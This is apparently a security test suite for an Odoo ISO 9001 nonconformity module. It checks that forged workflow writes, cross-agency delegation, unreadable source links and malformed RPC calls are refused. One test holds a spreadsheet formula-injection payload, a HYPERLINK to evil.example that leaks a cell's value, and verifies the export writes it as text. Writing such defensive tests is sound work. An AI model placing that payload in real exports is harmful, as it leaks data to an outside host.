"""Issue 13 in the nonconformity register: each abuse reproduced as the user would do it (ORM calls
`with_user`, the same as JSON-RPC), refused, and the record left as it was; next to it the path
the agency allows."""

import io
from datetime import date, timedelta

import openpyxl

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .test_nonconformity import NonconformityCommon

NC_WORKFLOW = (
    "state",
    "name",
    "plan_approved_by_id",
    "date_plan_approved",
    "date_closed",
    "date_verified",
    "effectiveness",
    "verified_by_id",
    "reopen_count",
    "cancel_reason",
    "res_model",
    "res_id",
    "active",
)
ACTION_WORKFLOW = ("state", "date_done", "is_done_on_time", "date_reminded", "date_escalated")


@tagged("post_install", "-at_install")
class TestNonconformityWorkflowGuard(NonconformityCommon):
    def test_plain_write_cannot_approve_the_plan_nor_close(self):
        nc = self._to_action_plan(self._create_nc())
        self._add_action(nc)
        before = self._snapshot(nc, NC_WORKFLOW)
        for user in (self.unit_officer, self.unit_member, self.qms_manager):
            with self.assertRaises(UserError):
                nc.with_user(user).write(
                    {"state": "in_progress", "plan_approved_by_id": self.leader.id}
                )
            with self.assertRaises(UserError):
                nc.with_user(user).write({"date_plan_approved": "2020-01-01"})
        self.assertEqual(self._snapshot(nc, NC_WORKFLOW), before)
        self.assertFalse(nc.plan_approved_by_id)
        # the way the agency approves a plan
        nc.action_submit_for_approval()
        nc.with_user(self.leader).action_approve()
        self.assertEqual((nc.state, nc.plan_approved_by_id), ("in_progress", self.leader))
        before = self._snapshot(nc, NC_WORKFLOW)
        for user in (self.unit_officer, self.qms_manager):
            with self.assertRaises(UserError):
                nc.with_user(user).write(
                    {
                        "state": "closed",
                        "date_closed": fields.Date.today(),
                        "effectiveness": "effective",
                    }
                )
            with self.assertRaises(UserError):
                nc.with_user(user).write({"state": "verification"})
            with self.assertRaises(UserError):  # "Approved by" is not typed either
                nc.with_user(user).write({"plan_approved_by_id": self.qms_manager.id})
        self.assertEqual(self._snapshot(nc, NC_WORKFLOW), before)

    def test_closed_nc_is_not_written_back_to_draft_nor_deleted(self):
        nc, _action = self._to_verification(self._create_nc())
        self._close(nc)
        before = self._snapshot(nc, (*NC_WORKFLOW, "title", "description", "correction"))
        for user in (self.unit_officer, self.qms_manager):
            with self.assertRaises(UserError):
                nc.with_user(user).write({"state": "draft"})
            with self.assertRaises(UserError):
                nc.with_user(user).write({"state": "draft", "date_closed": False})
            with self.assertRaises(UserError):
                nc.with_user(user).unlink()
            with self.assertRaises(UserError):
                nc.with_user(user).write({"title": "Phiếu khác"})
            with self.assertRaises(UserError):
                nc.with_user(user).write({"is_closed_on_time": False})
        with self.assertRaises(UserError):  # a closed NC is not cancelled either
            nc.with_user(self.qms_manager).action_cancel("Xóa dấu vết")
        self.assertEqual(
            self._snapshot(nc, (*NC_WORKFLOW, "title", "description", "correction")), before
        )
        self.assertTrue(nc.exists())

    def test_workflow_fields_cannot_be_given_at_creation(self):
        NC = self.env["qms.nonconformity"].with_user(self.unit_officer)
        values = {
            "title": "Phiếu lập sẵn đã đóng",
            "department_id": self.department_unit.id,
            "description": "<p>Thử</p>",
        }
        forged = {
            "state": "closed",
            "name": "NC-2020-0001",
            "date_closed": "2020-01-01",
            "plan_approved_by_id": self.leader.id,
            "effectiveness": "effective",
            "res_model": "qms.document",
            "res_id": 1,
            "reopen_count": 3,
        }
        for name, value in forged.items():
            with self.assertRaises(UserError, msg=name):
                NC.create(dict(values, **{name: value}))
        # nor through the context's defaults
        nc = NC.with_context(
            default_state="closed",
            default_date_closed="2020-01-01",
            default_plan_approved_by_id=self.leader.id,
            default_effectiveness="effective",
            default_name="NC-2020-0001",
        ).create(values)
        self.assertEqual(nc.state, "draft")
        self.assertFalse(nc.date_closed or nc.plan_approved_by_id or nc.effectiveness)
        self.assertNotEqual(nc.name, "NC-2020-0001")

    def test_the_plan_waiting_for_approval_is_frozen(self):
        nc = self._to_action_plan(self._create_nc())
        action = self._add_action(nc)
        nc.action_submit_for_approval()
        officer_nc = nc.with_user(self.unit_officer)
        with self.assertRaises(UserError):
            officer_nc.write({"root_cause": "Nguyên nhân khác"})
        with self.assertRaises(UserError):
            officer_nc.write({"date_deadline": date(2030, 1, 1)})
        with self.assertRaises(UserError):
            officer_nc.cause_ids[:1].write({"answer": "Sửa khi đang chờ duyệt"})
        with self.assertRaises(UserError):
            self.env["qms.nonconformity.cause"].with_user(self.unit_officer).create(
                {"nonconformity_id": nc.id, "question": "Vì sao?", "answer": "Thêm"}
            )
        with self.assertRaises(UserError):
            action.with_user(self.unit_officer).write({"date_deadline": date(2030, 1, 1)})
        with self.assertRaises(UserError):
            self.env["qms.action"].with_user(self.unit_officer).create(
                {
                    "name": "Thêm khi đang chờ duyệt",
                    "nonconformity_id": nc.id,
                    "responsible_id": self.unit_member.id,
                    "date_deadline": date(2030, 1, 1),
                }
            )
        self.assertEqual(len(nc.action_ids), 1)
        # recalled, the plan can be revised
        nc.action_recall()
        officer_nc.write({"root_cause": "Nguyên nhân khác"})
        self.assertEqual(nc.root_cause, "Nguyên nhân khác")

    def test_approved_plan_changes_through_the_standing_office(self):
        nc, action = self._to_in_progress(self._create_nc())
        deadline = action.date_deadline
        with self.assertRaises(AccessError):
            action.with_user(self.unit_officer).write({"date_deadline": date(2030, 1, 1)})
        with self.assertRaises(AccessError):
            action.with_user(self.unit_member).write({"responsible_id": self.unit_officer.id})
        with self.assertRaises(UserError):  # the NC's deadline came with the approved plan
            nc.with_user(self.unit_officer).write({"date_deadline": date(2030, 1, 1)})
        with self.assertRaises(AccessError):
            self.env["qms.action"].with_user(self.unit_officer).create(
                {
                    "name": "Hành động ngoài kế hoạch",
                    "nonconformity_id": nc.id,
                    "responsible_id": self.unit_member.id,
                    "date_deadline": date(2030, 1, 1),
                }
            )
        self.assertEqual(action.date_deadline, deadline)
        action.with_user(self.qms_manager).write({"date_deadline": deadline + timedelta(days=5)})
        self.assertEqual(action.date_deadline, deadline + timedelta(days=5))
        # carrying the action out is still the unit's
        action.with_user(self.unit_member).write({"result": "Đã làm"})

    def test_causes_of_a_closed_nc_are_frozen(self):
        nc, _action = self._to_verification(self._create_nc())
        self._close(nc)
        cause = nc.cause_ids[:1]
        before = (cause.question, cause.answer)
        for user in (self.unit_officer, self.qms_manager):
            with self.assertRaises(UserError):
                cause.with_user(user).write({"answer": "Viết lại sau khi đóng"})
            with self.assertRaises(UserError):
                cause.with_user(user).unlink()
            with self.assertRaises(UserError):
                self.env["qms.nonconformity.cause"].with_user(user).create(
                    {"nonconformity_id": nc.id, "question": "Vì sao?", "answer": "Thêm"}
                )
        self.assertEqual((cause.question, cause.answer), before)
        self.assertEqual(len(nc.cause_ids), 1)
        for bad in ("1", None, [nc.id]):
            with self.assertRaises(UserError):
                self.env["qms.nonconformity.cause"].with_user(self.unit_officer).create(
                    {"nonconformity_id": bad, "question": "Vì sao?", "answer": "Thêm"}
                )

    def test_source_and_company_are_set_at_creation_only(self):
        document = self.env["qms.document"].create(
            {
                "name": "Quy trình chứng thực",
                "type_id": self.env.ref("qms_iso9001.document_type_business_procedure").id,
                "department_id": self.department_unit.id,
            }
        )
        nc = self._create_nc()
        other_company = self.env["res.company"].create({"name": "UBND xã Hải Lăng"})
        self.qms_manager.company_ids |= other_company
        for user in (self.unit_officer, self.qms_manager):
            with self.assertRaises(UserError):
                nc.with_user(user).write({"res_model": "qms.document", "res_id": document.id})
        with self.assertRaises(UserError):
            nc.with_user(self.qms_manager).write({"company_id": other_company.id})
        self.assertFalse(nc.res_model)
        self.assertEqual(nc.company_id, self.env.company)


@tagged("post_install", "-at_install")
class TestNonconformityBlamedUnit(NonconformityCommon):
    """A late-dossier NC blames the unit that held the dossier: the person blamed neither cancels,
    archives, deletes it nor rewrites what it says."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.source_document = cls.env["qms.document"].create(
            {
                "name": "Quy trình cấp phiếu lý lịch tư pháp",
                "type_id": cls.env.ref("qms_iso9001.document_type_business_procedure").id,
                "department_id": cls.department_unit.id,
            }
        )

    def _late_nc(self):
        # as the dossier cron does it: raised by the system from the late record
        return self._create_nc(
            source="monitoring",
            responsible_id=self.unit_member.id,
            res_model="qms.document",
            res_id=self.source_document.id,
        )

    def test_blamed_person_cannot_cancel_archive_or_delete(self):
        nc = self._late_nc()
        before = self._snapshot(nc, NC_WORKFLOW)
        for user in (self.unit_member, self.unit_officer):
            with self.assertRaises(AccessError):
                nc.with_user(user).action_cancel("Không phải lỗi của tôi")
            with self.assertRaises(AccessError):
                nc.with_user(user).action_cancel_wizard()
            wizard = (
                self.env["qms.nonconformity.cancel"]
                .with_user(user)
                .create({"nonconformity_ids": [Command.set(nc.ids)], "reason": "Không phải lỗi"})
            )
            with self.assertRaises(AccessError):
                wizard.action_confirm()
            with self.assertRaises(AccessError):
                nc.with_user(user).write({"active": False})
            with self.assertRaises(AccessError):
                nc.with_user(user).action_archive()
            with self.assertRaises(UserError):
                nc.with_user(user).write({"state": "cancelled", "cancel_reason": "Tự hủy"})
        with self.assertRaises(UserError):  # raised from a record: kept, never deleted
            nc.with_user(self.unit_officer).unlink()
        self.assertTrue(nc.exists())
        self.assertEqual(self._snapshot(nc, NC_WORKFLOW), before)

    def test_blamed_person_cannot_rewrite_what_was_found(self):
        nc = self._late_nc()
        for values in (
            {"title": "Hồ sơ trả đúng hạn"},
            {"severity": "observation"},
            {"department_id": self.department_office.id},
            {"source": "other"},
            {"date_detected": date(2020, 1, 1)},
        ):
            with self.assertRaises(UserError, msg=str(values)):
                nc.with_user(self.unit_member).write(values)
        self.assertEqual(nc.title, "Hồ sơ trả kết quả quá hạn")
        # the unit fills in its part of the form
        nc.with_user(self.unit_member).write({"correction": "Đã xin lỗi công dân."})
        # the standing office corrects what the system recorded
        nc.with_user(self.qms_manager).write({"severity": "major"})
        self.assertEqual(nc.severity, "major")

    def test_standing_office_cancels_with_a_reason_and_archives(self):
        nc = self._late_nc()
        office = nc.with_user(self.qms_manager)
        for reason in (None, "", "   ", 42, ["x"]):
            with self.assertRaises(UserError):
                office.action_cancel(reason)
        self.assertEqual(nc.state, "draft")
        office.action_cancel("Hồ sơ trễ do lỗi hệ thống một cửa quốc gia")
        self.assertEqual(nc.state, "cancelled")
        self.assertEqual(nc.cancel_reason, "Hồ sơ trễ do lỗi hệ thống một cửa quốc gia")
        self.assertIn("Hồ sơ trễ do lỗi hệ thống một cửa quốc gia", self._chatter(nc))
        office.action_archive()
        self.assertFalse(nc.active)
        with self.assertRaises(UserError):
            office.unlink()


@tagged("post_install", "-at_install")
class TestNonconformitySourceLink(NonconformityCommon):
    """The source link shows only what the user may read."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.office_risk = cls.env["qms.risk"].create(
            {
                "name": "Thiếu nhân lực Văn phòng - hồ sơ mật",
                "department_id": cls.department_office.id,
                "likelihood": 3,
                "impact": 3,
            }
        )

    def test_unreadable_source_shows_a_neutral_label_and_does_not_open(self):
        # the office raises, from its own risk, an NC handled by a member of the unit
        nc = (
            self.env["qms.nonconformity"]
            .with_user(self.qms_manager)
            ._qms_raise_from(
                "qms.risk",
                self.office_risk.id,
                {
                    "title": "Thiếu người trực một cửa",
                    "department_id": self.department_unit.id,
                    "description": "<p>Thiếu người trực</p>",
                    "responsible_id": self.unit_member.id,
                },
            )
        )
        self.assertEqual((nc.res_model, nc.res_id), ("qms.risk", self.office_risk.id))
        self.assertFalse(self.office_risk.with_user(self.unit_member).has_access("read"))
        member_nc = nc.with_user(self.unit_member)
        self.assertEqual(member_nc.source_record_name, "Restricted record")
        self.assertNotIn(
            "hồ sơ mật", member_nc.read(["source_record_name"])[0]["source_record_name"]
        )
        with self.assertRaises(AccessError):
            member_nc.action_open_source()
        html, _format = (
            self.env["ir.actions.report"]
            .with_user(self.unit_member)
            ._render_qweb_html("qms_iso9001.action_report_qms_nonconformity", nc.ids)
        )
        self.assertNotIn("hồ sơ mật", html.decode())
        # who may read the risk sees and opens it
        office_nc = nc.with_user(self.qms_manager)
        self.assertEqual(office_nc.source_record_name, self.office_risk.display_name)
        self.assertEqual(office_nc.action_open_source()["res_id"], self.office_risk.id)

    def test_action_origin_is_neutral_too(self):
        action = self.env["qms.action"].create(
            {
                "name": "Bổ sung nhân lực",
                "res_model": "qms.risk",
                "res_id": self.office_risk.id,
                "department_id": self.department_unit.id,
                "responsible_id": self.unit_member.id,
                "date_deadline": date(2030, 1, 1),
            }
        )
        member_action = action.with_user(self.unit_member)
        self.assertEqual(member_action.origin_name, "Restricted record")
        with self.assertRaises(AccessError):
            member_action.action_open_origin()
        self.assertEqual(
            action.with_user(self.qms_manager).origin_name, self.office_risk.display_name
        )
        # nor can a user tie a new action to a record they cannot read
        with self.assertRaises(UserError):
            self.env["qms.action"].with_user(self.unit_officer).create(
                {
                    "name": "Gắn vào rủi ro của Văn phòng",
                    "res_model": "qms.risk",
                    "res_id": self.office_risk.id,
                    "responsible_id": self.unit_officer.id,
                    "date_deadline": date(2030, 1, 1),
                }
            )
        with self.assertRaises(UserError):
            self.env["qms.action"].with_user(self.unit_officer).with_context(
                default_res_model="res.users", default_res_id=self.env.ref("base.user_admin").id
            ).create(
                {
                    "name": "Gắn vào người dùng",
                    "responsible_id": self.unit_officer.id,
                    "date_deadline": date(2030, 1, 1),
                }
            )


@tagged("post_install", "-at_install")
class TestNonconformityRaiseInput(NonconformityCommon):
    """The raise wizard is reachable over JSON-RPC with any values: a clear message each time."""

    def _wizard(self, user, **context):
        return self.env["qms.nonconformity.raise"].with_user(user).with_context(**context)

    def test_bad_sources_give_a_clear_message(self):
        office_risk = self.env["qms.risk"].create(
            {
                "name": "Rủi ro của Văn phòng",
                "department_id": self.department_office.id,
                "likelihood": 2,
                "impact": 2,
            }
        )
        count = self.env["qms.nonconformity"].search_count([])
        cases = [
            ("no.such.model", 1),
            ("res.users", self.env.ref("base.user_admin").id),
            ("ir.config_parameter", 1),
            ("qms.lifecycle.mixin", 1),
            ("qms.document", 999999999),
            ("qms.document", "abc"),
            ("qms.document", -3),
            ("qms.risk", office_risk.id),  # exists, but the member cannot read it
            (["qms.document"], 1),
        ]
        for model, res_id in cases:
            with self.assertRaises(UserError, msg=f"{model} {res_id}"):
                self._wizard(self.unit_member, active_model=model, active_id=res_id).default_get(
                    ["res_model", "res_id", "title"]
                )
            wizard = self._wizard(self.unit_member).create(
                {
                    "title": "Thử",
                    "description": "<p>Thử</p>",
                    "department_id": self.department_unit.id,
                }
            )
            # the wizard's own fields are writable over RPC: checked again when raising
            wizard.sudo().write({"res_model": model if isinstance(model, str) else False})
            wizard.sudo().write({"res_id": res_id if isinstance(res_id, int) else 0})
            with self.assertRaises(UserError, msg=f"{model} {res_id}"):
                wizard.action_raise()
        self.assertEqual(self.env["qms.nonconformity"].search_count([]), count)

    def test_readable_qms_record_is_linked(self):
        risk = self.env["qms.risk"].create(
            {
                "name": "Mất dữ liệu hồ sơ điện tử",
                "department_id": self.department_unit.id,
                "likelihood": 2,
                "impact": 2,
            }
        )
        wizard = self._wizard(self.unit_member, active_model="qms.risk", active_id=risk.id).create(
            {"title": "Sao lưu không đúng quy định", "description": "<p>Bản sao lưu lỗi</p>"}
        )
        self.assertEqual(wizard.department_id, self.department_unit)
        self.assertEqual(wizard.source_record_name, risk.display_name)
        action = wizard.action_raise()
        nc = self.env["qms.nonconformity"].browse(action["res_id"])
        self.assertEqual((nc.res_model, nc.res_id), ("qms.risk", risk.id))
        self.assertEqual(nc.detected_by_id, self.unit_member)


@tagged("post_install", "-at_install")
class TestNonconformityRegisterFormulas(NonconformityCommon):
    def test_formula_titles_are_exported_as_text(self):
        title = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
        nc = self._create_nc(title=title)
        wizard = (
            self.env["qms.nonconformity.register"]
            .with_user(self.unit_officer)
            .with_context(active_model="qms.nonconformity", active_ids=nc.ids)
            .create({})
        )
        sheet = openpyxl.load_workbook(io.BytesIO(wizard._build_xlsx())).active
        cell = sheet.cell(row=5, column=3)
        self.assertEqual(cell.value, title)
        self.assertEqual(cell.data_type, "s", "a string cell, not a formula")
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        self.assertEqual(formulas, [])

    def test_bad_selection_from_the_context(self):
        nc = self._create_nc()
        for active_ids in ("1,2", 7, [nc.id, "x", None, True]):
            wizard = (
                self.env["qms.nonconformity.register"]
                .with_user(self.unit_officer)
                .with_context(active_model="qms.nonconformity", active_ids=active_ids)
                .create({})
            )
            self.assertLessEqual(wizard.nonconformity_ids, nc)


@tagged("post_install", "-at_install")
class TestNonconformityForgedDelegation(NonconformityCommon):
    """A delegate in agency A neither approves nor reads an NC plan of agency B."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company_b = cls.env["res.company"].create({"name": "Sở Tư pháp tỉnh B"})
        cls.department_b = cls.env["hr.department"].create(
            {"name": "Phòng Hành chính tư pháp B", "company_id": cls.company_b.id}
        )
        # the director of B also sits in A (e.g. on its steering committee)
        cls.leader_b = (
            cls.env["res.users"]
            .with_context(no_reset_password=True)
            .create(
                {
                    "name": "Giám đốc Sở B",
                    "login": "leader_b",
                    "group_ids": [Command.set([cls.env.ref("qms_iso9001.group_qms_leader").id])],
                    "company_id": cls.company_b.id,
                    "company_ids": [Command.set([cls.company_b.id, cls.env.company.id])],
                }
            )
        )
        cls.forger = cls._create_qms_user("qms_forger", "qms_iso9001.group_qms_user")
        cls.env["qms.approval.route"].create(
            {
                "name": "Phê duyệt kế hoạch khắc phục (B)",
                "model_id": cls.env["ir.model"]._get_id("qms.nonconformity"),
                "is_default": True,
                "company_id": cls.company_b.id,
                "step_ids": [
                    Command.create(
                        {
                            "name": "Giám đốc Sở B",
                            "approver_type": "users",
                            "user_ids": [Command.set(cls.leader_b.ids)],
                        }
                    )
                ],
            }
        )

    def test_delegate_of_another_agency_cannot_approve_nor_read(self):
        nc = self.env["qms.nonconformity"].create(
            {
                "title": "Hồ sơ của Sở B trả trễ",
                "department_id": self.department_b.id,
                "company_id": self.company_b.id,
                "description": "<p>Trễ hạn</p>",
                "state": "action_plan",
                "root_cause": "Thiếu người",
            }
        )
        self._add_action(nc, responsible=self.leader_b)
        nc.action_submit_for_approval()
        self.assertEqual(nc.approval_step_id.approver_ids, self.leader_b)
        Delegation = self.env["qms.approval.delegation"]
        # the forger cannot name the director of B as absent, in A or in B
        for company in (self.env.company, self.company_b):
            with self.assertRaises(AccessError):
                Delegation.with_user(self.forger).create(
                    {
                        "user_id": self.leader_b.id,
                        "delegate_id": self.forger.id,
                        "date_to": date.today(),
                        "company_id": company.id,
                    }
                )
        # even a delegation recorded by A's standing office counts in A only
        Delegation.with_user(self.qms_manager).create(
            {"user_id": self.leader_b.id, "delegate_id": self.forger.id, "date_to": date.today()}
        )
        forger_nc = nc.with_user(self.forger)
        with self.assertRaises(AccessError):
            forger_nc.read(["title"])
        self.assertFalse(self.env["qms.nonconformity"].with_user(self.forger).search([]) & nc)
        with self.assertRaises(AccessError):
            forger_nc.action_approve()
        self.assertEqual(nc.state, "action_plan")
        self.assertEqual(nc.approval_state, "pending")
        self.assertFalse(nc.approval_request_id.decision_ids)
        self.assertFalse(nc.plan_approved_by_id)
        # the director of B approves their own agency's plan
        nc.with_user(self.leader_b).with_company(self.company_b).action_approve()
        self.assertEqual((nc.state, nc.plan_approved_by_id), ("in_progress", self.leader_b))


@tagged("post_install", "-at_install")
class TestNonconformityButtonsOverRpc(NonconformityCommon):
    """Buttons meant for one record, called over JSON-RPC with none or several."""

    def test_one_record_at_a_time(self):
        first, second = self._create_nc(), self._create_nc(title="Phiếu thứ hai")
        NC = self.env["qms.nonconformity"].with_user(self.qms_manager)
        for records in (NC, (first | second).with_user(self.qms_manager)):
            for method in (
                "action_open_source",
                "action_view_actions",
                "action_open_verdict_wizard",
            ):
                with self.assertRaises(UserError, msg=f"{method} on {records.ids}"):
                    getattr(records, method)()
        for transition in ("action_start_analysis", "action_reset_draft"):
            with self.assertRaises(UserError):  # MissingError: a record that does not exist
                getattr(NC.browse(987654321), transition)()
        with self.assertRaises(UserError):
            self.env["qms.action"].with_user(self.qms_manager).action_open_origin()
        for model in ("qms.nonconformity.cancel", "qms.nonconformity.verdict"):
            with self.assertRaises(UserError):
                self.env[model].with_user(self.qms_manager).action_confirm()
        with self.assertRaises(UserError):
            self.env["qms.nonconformity.raise"].with_user(self.qms_manager).action_raise()
        with self.assertRaises(UserError):
            self.env["qms.nonconformity.register"].with_user(self.qms_manager).action_export_xlsx()
